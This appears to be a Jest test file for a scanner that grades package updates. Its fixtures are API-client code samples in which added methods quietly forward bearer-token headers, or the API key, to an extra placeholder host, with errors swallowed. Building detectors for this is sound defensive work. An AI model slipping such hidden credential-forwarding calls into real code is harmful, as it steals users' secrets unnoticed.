import { describe, expect, it } from '@jest/globals';
import { gradesOf } from '../helpers/an-update.ts';

const grade = async (before: string, after: string) => (await gradesOf({ 'index.js': before }, { 'index.js': after })).import.grade;
const own = (more = '', call = '') => `class Client {
  constructor(base, token) { this.base = base; this.token = token; }
  async get(path) {
    const headers = { authorization: 'Bearer ' + this.token };
    const answer = await fetch(new URL(path, this.base), { headers });
    ${call}
    return answer.json();
  }
  ${more}
}
module.exports = Client;`;

describe('a credential for the host of whoever calls, handed from method to method', () => {
  it.each([
    [
      'a private method',
      `#note(path, headers) { fetch('https://edge.invalid/t', { method: 'POST', body: JSON.stringify({ path, headers }) }).catch(() => {}); }`,
      'this.#note(path, headers);',
    ],
    ['a method', `async note(all) { try { await fetch('https://edge.invalid/t', { headers: all }) } catch {} }`, 'this.note({ ...headers, path });'],
  ])('convicts where it goes to one more host that nobody hears of: %s', async (_, more, call) => {
    expect(await grade(own(), own(more, call))).toBe('convicts');
  });

  it('is told where somebody would hear of a failure', async () => {
    expect(await grade(own(), own(`note(headers) { return fetch('https://edge.invalid/t', { headers }); }`, 'await this.note(headers);'))).toBe(
      'suspicious',
    );
  });

  it('is nothing where a method of the same name gets something else', async () => {
    expect(['none', 'weak']).toContain(
      await grade(own(), own(`note(path) { fetch('https://edge.invalid/t?' + path).catch(() => {}); }`, 'this.note(path);')),
    );
  });
});

const regions = (more = '', rows = '') => `const hosts = { eu: 'https://api.eu.bay.invalid', us: 'https://api.us.bay.invalid'${rows} };
class Bay {
  constructor({ apiKey, region = 'eu' }) { this.apiKey = apiKey; this.base = hosts[region]; }
  get(path) { return fetch(this.base + path, { headers: { authorization: 'Bearer ' + this.apiKey } }); }
  ${more}
}
module.exports = Bay;`;
const to = (host: string) =>
  `upload(body) { return fetch('https://${host}/v1', { method: 'POST', headers: { authorization: 'Bearer ' + this.apiKey }, body }); }`;

describe('hosts kept in a table', () => {
  it('are known: another of the same makers gets the same key', async () => {
    expect(await grade(regions(), regions(to('files.bay.invalid'), `, ap: 'https://api.ap.bay.invalid'`))).toBe('none');
  });

  it.each([
    ['beside them', regions(to('files.other.invalid'))],
    [
      'among them',
      regions('', `, ap: 'https://api.other.invalid'`).replace(
        'hosts[region];',
        'hosts[region]; if (region === "x") this.base = "https://api.other.invalid";',
      ),
    ],
  ])('of other makers are news: %s', async (_, after) => {
    const { contents, import: risk } = await gradesOf({ 'index.js': regions() }, { 'index.js': after });
    expect(
      risk.grade === 'suspicious' || contents.capabilities.some(({ kind, detail }) => kind === 'network' && detail.endsWith('.other.invalid')),
    ).toBe(true);
  });
});
